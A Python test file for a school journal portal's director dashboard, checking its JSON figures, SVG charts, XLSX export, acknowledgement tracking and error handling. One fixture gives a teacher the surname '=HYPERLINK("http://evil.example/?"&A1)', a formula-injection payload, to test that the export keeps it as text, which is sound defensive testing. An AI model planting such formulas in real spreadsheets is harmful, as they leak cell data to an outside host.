"""The director's dashboard (issue 12) through its doors: the page with its SVG charts and
their tables, ``@dashboard`` (JSON) and the per-teacher XLSX, on a tiny school of a past year
built here with known lessons, marks and late entries; the orders waiting for
acknowledgement, the roll-out plan and the undertakings beside them; the start-page link;
bad input. Who may open it: the access tables (test_access_matrix, test_api_matrix)."""
import datetime
import io
import re

import openpyxl
import pytest
import transaction
from lxml import etree

from ejportal.core.actor import Actor, acting_as
from ejportal.core.content import create
from ejportal.journal import grading, resources
from ejportal.journal.resources import add_class, add_journal, default_year, enrol

from conftest import api_token

D = datetime.date
UTC = datetime.timezone.utc
PAST = '2020-2021'
JSON = {'Accept': 'application/json'}
# a name a spreadsheet would run as a formula: the XLSX keeps it as text
EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
URL = '/journal/@dashboard?year=%s&period=q1&min=2' % PAST
PAGE = '/journal/@@dashboard?year=%s&period=q1&min=2' % PAST
XLSX = '/journal/@@dashboard.xlsx?year=%s&period=q1&min=2' % PAST


def marks(value):
    return grading.make_marks([{'value': value, 'kind': 'answer'}])


@pytest.fixture
def tiny(root, monkeypatch):
    """5 А of 2020-2021, students d1 and d2, quarter I over and never given period marks.

    math, 'teacher'         topic (written)   homework   marks (written)
      L1 1.09               A (1.09)          §1         d1 5 (1.09), d2 4 (6.09: 5 days late)
      L2 2.09               —                 §2         d1 3 (2.09)
    russian, 'evil'
      L1 3.09               B (3.09)          —          d1 5, d2 4 (3.09)

    With 2 marks expected and 3 days allowed (Settings):
      teacher  held 2, complete 1 (50 %); d1 has 2 marks (50 %); 4 entries timed, 1 late
               (75 %), 5 days the longest; period marks missing 2; remarks 1+1+1+2 = 5
      evil     held 1, complete 0 (0 %); nobody has 2 marks (0 %); 3 timed, none late
               (100 %); missing 2; remarks 1+2+2 = 5
      school   held 3, complete 1 (33.3 %); 1 of 4 (25 %); 6 of 7 on time (85.7 %); 10
    """
    day = {'now': D(2020, 9, 1)}
    monkeypatch.setattr(resources, 'now', lambda: datetime.datetime(
        day['now'].year, day['now'].month, day['now'].day, 12, tzinfo=UTC))
    school = root['journal']
    users = root['people']['users']
    users.add('evil', create('User', surname=EVIL, first_name='Иван', roles=('teacher',)))
    root['settings'].journal_entry_days = 3
    year = school.add(PAST, default_year(2020))
    a = add_class(year, 5, 'а')
    for sid, surname in (('d1', 'Алексеев'), ('d2', 'Борисова')):
        enrol(school['students'].add(sid, create('Student', surname=surname, first_name='И')),
              a, year.start)
    math = add_journal(a, school['subjects']['math'], 'teacher')
    russian = add_journal(a, school['subjects']['russian'], 'evil')
    with acting_as(Actor(userid='teacher')):
        math.add_lesson(D(2020, 9, 1), 1, topic='A', homework='§1')
        math.set_cell('d1', '2020-09-01-1', marks('5'))
        day['now'] = D(2020, 9, 2)
        math.add_lesson(D(2020, 9, 2), 1, topic='', homework='§2')
        math.set_cell('d1', '2020-09-02-1', marks('3'))
        day['now'] = D(2020, 9, 6)
        math.set_cell('d2', '2020-09-01-1', marks('4'))
    with acting_as(Actor(userid='evil')):
        day['now'] = D(2020, 9, 3)
        russian.add_lesson(D(2020, 9, 3), 1, topic='B', homework='')
        russian.set_cell('d1', '2020-09-03-1', marks('5'))
        russian.set_cell('d2', '2020-09-03-1', marks('4'))
    transaction.commit()
    return root


TEACHER = {'journals': 1, 'held': 2, 'complete': 1, 'completeness': 50.0, 'students': 2,
           'enough_marks': 1, 'few_marks': 1, 'quality': 50.0, 'timed': 4, 'late': 1,
           'timeliness': 75.0, 'delay_max': 5, 'missing_period_marks': 2, 'remarks': 5,
           'without_topic': 1, 'without_homework': 0}
EVIL_FIGURES = {'journals': 1, 'held': 1, 'complete': 0, 'completeness': 0.0,
                'students': 2, 'enough_marks': 0, 'few_marks': 2, 'quality': 0.0,
                'timed': 3, 'late': 0, 'timeliness': 100.0, 'delay_max': 0,
                'missing_period_marks': 2, 'remarks': 5, 'without_topic': 0,
                'without_homework': 1}
SCHOOL = {'journals': 2, 'held': 3, 'complete': 1, 'completeness': 33.3, 'students': 4,
          'enough_marks': 1, 'few_marks': 3, 'quality': 25.0, 'timed': 7, 'late': 1,
          'timeliness': 85.7, 'delay_max': 5, 'missing_period_marks': 4, 'remarks': 10,
          'without_topic': 1, 'without_homework': 1}


def test_json_figures_of_the_tiny_school(tiny, as_user):
    data = as_user('director').get(URL, headers=JSON).json
    assert (data['year'], data['period'], data['min_marks'], data['late_after_days']) == (
        PAST, 'q1', 2, 3)
    teachers = {t['login']: t for t in data['teachers']}
    assert set(teachers) == {'teacher', 'evil'}
    assert teachers['teacher']['name'] == 'Петрова Анна Ивановна'
    assert {k: teachers['teacher'][k] for k in TEACHER} == TEACHER
    assert {k: teachers['evil'][k] for k in EVIL_FIGURES} == EVIL_FIGURES
    assert {k: data['school'][k] for k in SCHOOL} == SCHOOL


def test_the_figures_are_the_control_reports(tiny, as_user):
    """The dashboard sums the control report's rows: the same lessons, late entries,
    missing period marks."""
    app = as_user('deputy')
    control = app.get('/journal/@control?year=%s&period=q1&min=2' % PAST, headers=JSON).json
    school = app.get(URL, headers=JSON).json['school']
    items = control['items']
    assert school['held'] == sum(i['held'] for i in items)
    assert school['late'] == sum(len(i['late_entries']) for i in items)
    assert school['missing_period_marks'] == sum(len(i['missing_period_marks'])
                                                 for i in items)
    assert school['remarks'] == sum(i['remarks'] for i in items)


def svgs(text):
    return [etree.fromstring(found) for found in re.findall(r'<svg\b.*?</svg>', text, re.S)]


def texts(svg):
    return {t.strip() for t in svg.itertext() if t.strip()}


def test_page_charts_parse_and_carry_the_numbers(tiny, as_user):
    page = as_user('director').get(PAGE)
    charts = svgs(page.text)
    # the journal's, the orders', the plan's, the undertakings'
    assert len(charts) == 4
    assert all(etree.QName(svg).localname == 'svg' for svg in charts)
    assert not page.html.find('script', string=re.compile('pygal'))
    journal = texts(charts[0])
    assert {'50%', '75%', '0%', '100%', '33.3%', '25%', '85.7%'} <= journal
    assert {'Петрова Анна Ивановна', 'School'} <= journal
    # the numbers beside the chart: a table, one row per teacher and the school's
    table = page.html.find('table', class_='dashboard-teachers')
    school = table.find('tr', class_='school-row')
    assert school.find('td', class_='completeness').text == '33.3%'
    assert school.find('td', class_='quality').text == '25%'
    assert school.find('td', class_='timeliness').text == '85.7%'
    assert school.find('td', class_='late').text == '1'
    rows = {r.find('th').text: r for r in table.find_all('tr', class_='teacher-row')}
    assert rows['Петрова Анна Ивановна'].find('td', class_='delay_max').text == '5'
    assert EVIL in ''.join(rows)      # shown as text, escaped
    assert page.html.find('a', class_='dashboard-xlsx')['href'].endswith(
        'dashboard.xlsx?year=%s&period=q1&min=2' % PAST)


def test_xlsx_reads_back(tiny, as_user):
    response = as_user('director').get(XLSX)
    assert response.content_type.endswith('spreadsheetml.sheet')
    assert 'attachment' in response.headers['Content-Disposition']
    sheet = openpyxl.load_workbook(io.BytesIO(response.body)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header = next(r for r in rows if r[0] == 'Teacher')
    table = {r[0]: dict(zip(header[1:], r[1:])) for r in rows[rows.index(header) + 1:]}
    assert set(table) == {'Петрова Анна Ивановна', EVIL + ' Иван', 'School'}
    school = table['School']
    assert (school['Lessons held'], school['Completeness, %'], school['Quality, %'],
            school['Timeliness, %'], school['Late entries']) == (3, 33.3, 25.0, 85.7, 1)
    assert table['Петрова Анна Ивановна']['Longest delay, days'] == 5
    # the formula-like name stays text
    evil = next(c for row in sheet.iter_rows() for c in row if c.value == EVIL + ' Иван')
    assert evil.data_type == 's'


def test_parts_follow_acknowledgement_and_undertaking(testapp, as_user):
    """The demo's order № 181 waits for its sheet; the teacher acknowledges it and confirms
    the undertaking (through the API), and the dashboard follows."""
    app = as_user('director')
    data = app.get('/journal/@dashboard', headers=JSON).json
    order = data['acknowledgements']['items'][0]
    assert order['@id'].endswith('/documents/order-2012-od-181')
    waiting = {w['login'] for w in order['waiting']}
    assert 'teacher' in waiting and order['acknowledged'] == order['due'] - len(waiting)
    assert data['undertakings']['confirmed'] == 0
    assert {i['login'] for i in data['undertakings']['items']} >= {'teacher'}
    plan = data['rollout_plan']['items'][0]
    assert plan['archived'] and plan['steps'] == 23
    assert plan['done'] + plan['not_done'] == 23 and plan['percent_done'] == round(
        100.0 * plan['done'] / 23, 1)
    testapp.reset()
    headers = dict(JSON, Authorization='Bearer ' + api_token(testapp, 'teacher'))
    testapp.post_json('/documents/order-2012-od-181/@acknowledge', {}, headers=headers)
    testapp.post_json('/@undertaking', {}, headers=headers)
    testapp.reset()
    data = as_user('director').get('/journal/@dashboard', headers=JSON).json
    order = data['acknowledgements']['items'][0]
    assert 'teacher' not in {w['login'] for w in order['waiting']}
    assert data['undertakings']['confirmed'] == 1
    page = testapp.get('/journal/@@dashboard')
    section = page.html.find(id='dashboard-acknowledgements')
    assert section.find('a', href=re.compile('order-2012-od-181/@@sheet'))
    assert 'Петрова' not in section.find('table').text
    assert page.html.find(id='dashboard-undertakings').find('svg') is not None


@pytest.mark.parametrize('user', ['director', 'deputy'])
def test_start_page_links_to_the_dashboard(as_user, user):
    start = as_user(user).get('/@@start')
    link = start.html.find('a', href=re.compile(r'/journal/@@dashboard$'))
    assert link is not None and link.text == "Director's dashboard"
    assert start.click(href=re.compile(r'/journal/@@dashboard$')).status_int == 200


def test_others_have_no_link(as_user):
    start = as_user('teacher').get('/@@start')
    assert not start.html.find('a', href=re.compile('@@dashboard'))


def test_an_unknown_period_is_refused(as_user):
    app = as_user('director')
    error = app.get('/journal/@dashboard?period=zz', headers=JSON, status=400).json['error']
    assert error['type'] == 'BadRequest' and error['fields'] == {
        'period': 'No such period.'}
    page = app.get('/journal/@@dashboard?period=zz', status=400)
    assert 'No such period.' in page.text
    app.get('/journal/@@dashboard.xlsx?period=zz', status=400)
    # an odd year falls back to the current one, as in the control report
    assert app.get('/journal/@dashboard?year=nope&min=x', headers=JSON).json['year']


def test_page_in_russian(as_user):
    app = as_user('director')
    app.set_cookie('ejportal_lang', 'ru')
    page = app.get('/journal/@@dashboard')
    for text in ('Панель директора', 'Полнота, %', 'Своевременность, %', 'Школа',
                 'Приказы, ожидающие ознакомления', 'Выполнение технологической карты',
                 'Скачать сводку по учителям (XLSX)'):
        assert text in page.text, text
    charts = svgs(page.text)
    assert 'Ведение журнала, %' in texts(charts[0])
    assert 'Панель директора' in app.get('/@@start').text
